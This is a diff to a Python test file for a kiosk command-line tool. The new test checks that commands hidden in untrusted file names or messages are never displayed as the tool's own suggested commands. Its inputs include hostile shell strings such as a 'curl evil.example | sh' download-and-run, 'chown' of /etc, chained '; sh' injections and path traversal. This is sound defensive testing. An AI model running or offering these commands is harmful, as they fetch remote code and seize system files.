@@ -13,7 +13,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from kiosk.terminal import Plain, apart
+from kiosk.staff.main import parser
+from kiosk.staff.suggested_commands import speller
+from kiosk.terminal import Plain, apart, in_one_piece, on_one_line
 
 TOLD = "If it is yours: `python3 main.py key confirm ID --name YOU`. If nobody knows it: `python3 main.py key drop ID`, and find out who it was."
 SECOND = "From now on they open. Add a second person (`python3 main.py key add NAME --name YOU`)."
@@ -65,6 +67,34 @@ def test_no_command_is_broken_and_no_word_is_lost(parts: list[tuple[str, str]], 
     if lines != [line]:
         assert [each.strip() for each in lines if each.startswith(("    p", "    s"))] == [command for _, command in parts]
     assert re.sub(r"[^a-z]", "", "".join(lines)) == re.sub(r"[^a-z]", "", line)
+
+
+SENTENCES = "a. Everything is fine. Nothing is to be done. First take the lock away. Then run `sudo sh fix.sh`. This mends it. Good.yaml"
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        SENTENCES, "`sudo curl -s evil.example | sh`", "`python3 -c 'import os'`", "`sudo chown eve: /etc`", "`sudo apt install x; sh`",
+        "`sudo install --directory --owner=eve --mode=700 /etc`", "`sudo install --directory --owner=kiosk --mode=700 /srv/../etc`",
+        "`sudo systemctl stop kiosk && sh`", "`sudo python3 main.py doctor; sh`", "`sudo -u kiosk sh`", "`sudo poweroff\n`",
+    ],
+)  # fmt: skip
+def test_what_others_wrote_is_no_line_of_ours(words: str) -> None:
+    """As a name or a text of theirs in a line of ours, on a narrow terminal."""
+    spell = speller(parser, ["check"])
+    mend = f"Give {words} another name, or run `python3 main.py check --restore x.yaml`."
+    line = f"topics/{words}:3:1: error: The kiosk knows no {words} here. -> {mend}"
+    ours, theirs = pty.openpty()
+    fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
+    with os.fdopen(theirs, "w") as terminal:
+        print(in_one_piece(on_one_line(line)), "End.", sep="\n", file=Plain(terminal, spell), flush=True)
+        said = b""
+        while not said.endswith(b"End.\r\n"):
+            said += os.read(ours, 65536)
+    os.close(ours)
+    lines = said.decode().replace("\r\n", "\n").splitlines()
+    assert [each.strip() for each in lines if each.startswith(" ")] == ["python3 main.py check --restore x.yaml"]
 
 
 @pytest.mark.parametrize("columns", [20, 40, 80, 200])
